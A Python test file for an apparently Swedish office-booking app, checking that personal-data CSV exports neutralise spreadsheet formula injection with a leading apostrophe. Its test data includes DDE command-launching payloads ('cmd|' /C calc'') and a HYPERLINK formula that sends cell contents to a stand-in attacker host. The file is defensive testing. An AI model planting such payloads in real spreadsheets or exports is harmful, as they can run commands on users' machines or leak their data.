"""Formula injection through CSV exports (issue 20, item 6): a name or a title a person typed
that Excel would run as a formula reaches every CSV with a leading apostrophe."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, time
from pathlib import Path

from satellitkontor.domain import clock as clk
from satellitkontor.domain.text import printable
from satellitkontor.integrations import csv_cells
from tests.conftest import Office

NAME = "=cmd|' /C calc'!A0"
TITLE = '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]


def test_my_data_defuses_a_name_and_a_title_typed_as_formulas(office: Office, tmp_path: Path) -> None:
    services = office.services
    person = services.office.add_person(office.admin.id, NAME, "formel@umea.se", "Umeå")
    day = date(2026, 12, 8)
    office.clock.set_local(date(2026, 12, 7), time(9))
    services.booking.book_room(
        person.id,
        office.room.id,
        datetime.combine(day, time(10), clk.OFFICE_TZ),
        datetime.combine(day, time(11), clk.OFFICE_TZ),
        2,
        TITLE,
    )
    export = services.personal_data.export(person.id, person.id, tmp_path)
    written = {p.name: p for p in export.files}
    profile, bookings = cells(written["profil.csv"]), cells(written["bokningar.csv"])
    assert "'" + NAME in profile and NAME not in profile
    assert "'" + TITLE in bookings and TITLE not in bookings
    for path in written.values():
        if path.suffix == ".csv":
            assert not any(c.startswith(csv_cells.FORMULA_START) for c in cells(path)), path.name


def test_every_dangerous_start_is_defused_and_numbers_stay_numbers() -> None:
    for text in [NAME, TITLE, *OTHERS]:
        assert csv_cells.cell(text) == printable("'" + text)  # a tab or CR is shown as \x09, \x0d
    assert csv_cells.cell(-3) == "-3" and csv_cells.cell(0.25) == "0.25" and csv_cells.cell(None) == ""
    assert csv_cells.cell("Umeå") == "Umeå"
